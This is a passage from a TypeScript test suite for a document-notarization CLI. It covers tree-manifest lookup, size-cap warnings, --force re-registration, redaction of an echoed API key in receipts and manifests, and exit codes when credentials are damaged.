    // (never registered) and a planted one of 10,001. (With the leaves read capped in all, the newer
    // ones used up the room and the tree's documents were paid for again.)
    const docs = await writeDocs('t14', 'five under one root', ['d1', 'd2', 'd3', 'd4', 'd5']);
    const receipts = bed.path('t14-receipts');
    const first = await onStore(freshStore(), receipts, docs);
    expect(first.run.code, describeRun(first.run)).toBe(0);
    for (const name of readdirSync(receipts)) {
      if (name.endsWith('.notarization.json')) rmSync(join(receipts, name));
      else utimesSync(join(receipts, name), new Date('2026-01-01'), new Date('2026-01-01'));
    }
    for (let i = 0; i < 11; i++) {
      const digests = Array.from({ length: 10_000 }, (_, j) =>
        createHash('sha256').update(`other ${i} ${j}`).digest('hex'),
      );
      plant(receipts, digests, { description: `unrelated ${i}`, createdAt: '2026-01-02T00:00:00Z' });
    }
    const large = plant(receipts, Array<string>(10_001).fill('ab'.repeat(32)), {
      description: 'larger',
      createdAt: '2026-01-02T00:00:00Z',
    });
    let mark = bed.mark();
    const again = await bed.main(['register', docs[0]!, docs[1]!, '--receipt-dir', receipts, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(again.code, describeRun(again)).toBe(0);
    expect(countStatuses(parseNdjson(again.stdout))).toEqual({ 'already-registered': 2 });
    expect(bed.callsSince(mark).filter((call) => call.route === 'forfait')).toEqual([]);
    expect(again.stderr).not.toContain('not read');
    // A new document: the larger manifest, which might hold it, is named once; the document is paid for.
    const fresh = await bed.write('t14/new.txt', 'a new document\n');
    mark = bed.mark();
    const added = await bed.main(['register', bed.path('t14/new.txt'), '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(added.code, describeRun(added)).toBe(0);
    expect(added.stderr).toContain(
      `tree manifests in --receipt-dir not read, as larger than a run of 1 document reads (10000 leaves): if ${fresh} ` +
        `is under one of their roots, its receipt gone, it is registered again (keep the receipts, or run over more ` +
        `of their documents): ${join(receipts, `${large}.tree.json`)}`,
    );
    expect(bed.callsSince(mark).filter((call) => call.route === 'forfait')).toHaveLength(1);
  });

  it("per-document register: the size warning also after a manifest listing the document was passed over, never for the store's own tree", async () => {
    const receipts = bed.path('t15-receipts');
    const big = plant(receipts, Array<string>(10_001).fill('cd'.repeat(32)), {
      description: 'larger',
      createdAt: '2026-01-02T00:00:00Z',
    });
    const doc = await bed.write('t15/a.txt', 'listed by a damaged manifest\n');
    // A small manifest listing the document under another root's name: read, then passed over (it holds another root).
    const small = plant(bed.path('t15-elsewhere'), [doc, 'ef'.repeat(32)], {
      description: 'small',
      createdAt: '2026-01-03T00:00:00Z',
    });
    const smallFile = join(receipts, `${'f'.repeat(64)}.tree.json`);
    cpSync(join(bed.path('t15-elsewhere'), `${small}.tree.json`), smallFile);
    const bigFile = join(receipts, `${big}.tree.json`);
    const store = freshStore();
    const run = await bed.main(['register', bed.path('t15/a.txt'), '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(run.code, describeRun(run)).toBe(0);
    expect(run.stderr).toContain(`a tree manifest was passed over: tree manifest ${smallFile} is damaged`);
    expect(run.stderr).toContain(
      `tree manifests in --receipt-dir not read, as larger than a run of 1 document reads (10000 leaves): if ${doc} `,
    );
    // The large one made this store's own tree (its file in the store): its leaves are known here, never named.
    cpSync(bigFile, join(storePaths(store, bed.sandbox.url).service, 'trees', `${big}.json`));
    await bed.write('t15/b.txt', 'a new document on the warm store\n');
    const warm = await bed.main(['register', bed.path('t15/b.txt'), '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(warm.code, describeRun(warm)).toBe(0);
    expect(warm.stderr).not.toContain('not read');
  });

  it("a root confirmed by one document's receipt places the others its manifest lists, whatever its size", async () => {
    // A tree of 9; a fresh runner with q1's receipt and the manifest, q2's receipt lost: q2 was put
    // under a new paid tree (the manifest, more than four leaves per document of the run, not read).
    const { docs, receipts, root } = await registeredTree('t13', 'nine under one root', [
      'q1',
      'q2',
      'q3',
      'q4',
      'q5',
      'q6',
      'q7',
      'q8',
      'q9',
    ]);
    rmSync(join(receipts, 'q2.txt.notarization.json'));
    const again = await onStore(freshStore(), receipts, docs.slice(0, 2));
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof!.root === root])).toEqual([
      ['already-registered', true],
      ['already-registered', true],
    ]);
  });

  it('after the 409 the store keeps nothing of the adopted root: --force registers the documents anew', async () => {
    await bed.write('t4/a.txt', 'forced again later\n');
    const doc = bed.path('t4/a.txt');
    const receipts = bed.path('t4-receipts');
    const root = parseResults((await onStore(freshStore(), receipts, [doc])).run.stdout)[0]!.proof!.root;
    const store = freshStore();
    expect((await onStore(store, receipts, [doc])).calls).toEqual(['login:200', 'request:409']);
    expect(existsSync(join(storePaths(store, bed.sandbox.url).service, 'trees', `${root}.json`))).toBe(false);
    const forced = await onStore(store, receipts, [doc], ['--force']);
    expect(forced.run.code, describeRun(forced.run)).toBe(0);
    expect(forced.calls).toEqual(['request:200', 'forfait:200']);
    expect(parseResults(forced.run.stdout)[0]).toMatchObject({ status: 'registered' });
    expect(parseResults(forced.run.stdout)[0]!.proof!.root).not.toBe(root);
  });
});

describe('register --aggregate with a record that echoes the key', () => {
  it("each document's receipt has it redacted, with a warning naming the receipt, and verifies", async () => {
    const own = await Bed.create({ keyInEnv: true });
    onTestFinished(() => own.finish());
    const key = own.sandbox.apiKey;
    const proxy = await own.proxy((method, path, status, body) =>
      method === 'POST' && path.endsWith('/forfait') && status === 200
        ? JSON.stringify({ ...(JSON.parse(body) as Record<string, unknown>), description: `echo ${key}` })
        : undefined,
    );
    await own.write('dist/a.txt', 'aggregated and echoed a\n');
    await own.write('dist/b.txt', 'aggregated and echoed b\n');
    const receipts = own.path('receipts');
    const env = { NOTARIZE_BASE_URL: proxy.url };
    const run = await own.main(
      ['register', '--aggregate', '-r', own.path('dist'), '--receipt-dir', receipts, '--output', 'ndjson'],
      { env },
    );
    expect(run.code, describeRun(run)).toBe(0);
    for (const name of ['a.txt', 'b.txt']) {
      const text = readFileSync(join(receipts, `${name}.notarization.json`), 'utf8');
      expect(text).not.toContain(key);
      expect(text).toContain('echo [redacted]');
      expect(run.stderr).toContain(
        `warning: receipt ${join(receipts, `${name}.notarization.json`)}: it held a secret of yours, an API key, a token or a proxy password`,
      );
    }
    const verified = await own.main(['verify', '-r', own.path('dist'), '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: own.path('empty-store'), NOTARIZE_BASE_URL: proxy.url },
    });
    expect(verified.code, describeRun(verified)).toBe(0);
    expect(parseResults(verified.stdout).map((r) => r.status)).toEqual(['verified', 'verified']);
  });

  it("the tree manifest has a key found in a document's name redacted, with a warning, and still makes its root", async () => {
    const own = await Bed.create({ keyInEnv: true });
    onTestFinished(() => own.finish());
    const key = own.sandbox.apiKey;
    await own.write(`dist/${key}.txt`, 'a document named after the key\n');
    await own.write('dist/b.txt', 'a document named plainly\n');
    const receipts = own.path('receipts');
    const run = await own.main([
      'register',
      '--aggregate',
      '-r',
      own.path('dist'),
      '--receipt-dir',
      receipts,
      '--output',
      'ndjson',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    const root = parseNdjson(run.stdout)[0]!.proof!.root;
    const manifest = join(receipts, `${root}.tree.json`);
    const text = readFileSync(manifest, 'utf8');
    expect(text).not.toContain(key);
    const written = JSON.parse(text) as { leaves: { name: string }[] };
    expect(written.leaves.map((leaf) => leaf.name).sort()).toEqual(['[redacted].txt', 'b.txt']);
    expect(run.stderr).toContain(
      `warning: the tree manifest ${manifest}: it held a secret of yours, an API key, a token or a proxy password`,
    );
    // Still the manifest of its root, exactly as notarize writes one: verify passes over it as no document.
    expect(exactManifestDigests(manifest, root)).toHaveLength(2);
  });
});

describe('--aggregate: a root that fails before anything is sent keeps exit 2, as per-document register does', () => {
  it('a damaged credentials.json with no key: exit 2 ("nothing was sent"), the sandbox got no call', async () => {
    const alone = await Bed.create();
    try {
      const file = await alone.file('root-alone.txt', 'a root whose login cannot even start');
      mkdirSync(alone.storeDir, { recursive: true, mode: 0o700 });
      writeFileSync(join(alone.storeDir, 'credentials.json'), '{"tokens":', { mode: 0o600 });
      const mark = alone.mark();
      const aggregate = await alone.main(['register', '--aggregate', file]);
      expect(aggregate.code, describeRun(aggregate)).toBe(2);
      const single = await alone.main(['register', file]);
      expect(single.code, describeRun(single)).toBe(2);
      expect(alone.callsSince(mark)).toEqual([]);
    } finally {
      await alone.finish();
    }
  });
});
